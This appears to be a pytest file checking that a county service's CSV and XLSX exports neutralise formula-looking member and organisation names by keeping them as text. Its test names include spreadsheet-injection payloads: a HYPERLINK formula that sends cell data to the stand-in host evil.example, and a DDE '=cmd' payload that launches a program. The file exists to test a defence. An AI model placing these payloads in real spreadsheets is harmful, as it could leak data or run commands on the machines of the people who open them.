"""Formula-looking text comes out of every export as text (issue 14): a member or organisation
name such as `=HYPERLINK(…)` or `=cmd|' /C calc'!A0` in roster.csv, figures.csv, roster.xlsx and
figures.xlsx — read back with the csv module and openpyxl, over the real query API. A negative
number (a balance of -2.50 元) stays a number in both."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine

from services.county.api.app import create_app
from services.county.ingest.processor import Ingestor
from services.county.queries.cells import looks_like_formula
from tests.accounts import CountyClient
from tests.county.helpers import TEST_KEYS, deliver_keys, enrol_nodes, feed, open_node, record
from tests.samples import id_number

NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]
ORG_NAME = "=1+1 乡党委"


def at(day: str) -> str:
    return f"{day}T10:00:00+08:00"


@pytest.fixture
def client(county_engine: Engine, tmp_path: Path) -> TestClient:
    node = open_node(tmp_path, "county")
    try:
        datas = record(
            node,
            [
                {
                    "type": "org.registered",
                    "occurred_at": at("2026-01-02"),
                    "payload": {"org_id": "county", "name": "江县县委", "kind": "county_committee"},
                },
                {
                    "type": "org.registered",
                    "occurred_at": at("2026-01-02"),
                    "payload": {
                        "org_id": "t1",
                        "name": ORG_NAME,
                        "kind": "township_committee",
                        "parent_id": "county",
                    },
                },
                {
                    "type": "org.registered",
                    "occurred_at": at("2026-01-02"),
                    "payload": {
                        "org_id": "v1",
                        "name": "东一村",
                        "kind": "village_branch",
                        "parent_id": "t1",
                    },
                },
                *(
                    {
                        "type": "member.registered",
                        "occurred_at": at("2026-01-05"),
                        "payload": {
                            "personal": {"name": name, "id_number": id_number(i + 1)},
                            "home_branch": "v1",
                            "host_location": name,
                            "flowed_out_on": "2019-03-01",
                        },
                    }
                    for i, name in enumerate(NAMES)
                ),
                {
                    "type": "fund.received",
                    "occurred_at": at("2026-02-01"),
                    "payload": {"org_id": "t1", "source": "fiscal", "amount_fen": 100},
                },
                {  # more spent than received: the balance, -2.50 元, is a number, not a formula
                    "type": "fund.spent",
                    "occurred_at": at("2026-02-02"),
                    "payload": {"org_id": "t1", "amount_fen": 350, "purpose": "活动"},
                },
            ],
        )
        deliver_keys(county_engine, node)  # the names are opened in the exports, formulas and all
    finally:
        node.close()
    enrol_nodes(county_engine, node, office="county", orgs={"county": ["county", "t1"]})
    assert set(feed(Ingestor(county_engine, "jx"), datas)) == {"archived"}
    return CountyClient(create_app(county_engine, personal=TEST_KEYS))


def _get(client: TestClient, url: str, **params: str) -> bytes:
    response = client.get(url, params=params)
    assert response.status_code == 200, response.text
    return response.content


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def test_csv_exports_put_an_apostrophe_before_formula_text(client: TestClient) -> None:
    roster = _csv_cells(_get(client, "/api/v1/roster/members.csv"))
    for name in NAMES:
        assert "'" + name in roster
        assert name not in roster
    funds = _get(client, "/api/v1/export/figures.csv", figure="funds", group_by="township")
    figures = _csv_cells(funds)
    assert "'" + ORG_NAME in figures
    assert [c for c in roster + figures if looks_like_formula(c) and not _number(c)] == []
    header, township, total = csv.reader(io.StringIO(funds.decode("utf-8-sig")))
    balance = header.index("结余（元）")
    assert township[balance] == total[balance] == "-2.50"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_xlsx_exports_hold_formula_text_as_text(client: TestClient) -> None:
    for url, params in (
        ("/api/v1/export/roster.xlsx", {}),
        ("/api/v1/export/figures.xlsx", {"group_by": "township"}),
    ):
        book = load_workbook(io.BytesIO(_get(client, url, **params)))
        seen: list[str] = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (url, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and looks_like_formula(cell.value):
                        assert cell.data_type == "s"
                        assert cell.quotePrefix, (url, cell.coordinate)
                        seen.append(cell.value)
        expected = set(NAMES) if "roster" in url else {ORG_NAME}
        assert expected <= set(seen), (url, seen)
    funds = load_workbook(io.BytesIO(_get(client, "/api/v1/export/figures.xlsx", group_by="township")))[
        "经费"
    ]
    header = [c.value for c in funds[2]]
    cell = funds.cell(funds.max_row, header.index("结余（元）") + 1)
    assert (cell.value, cell.data_type, cell.number_format) == (-2.5, "n", "#,##0.00")
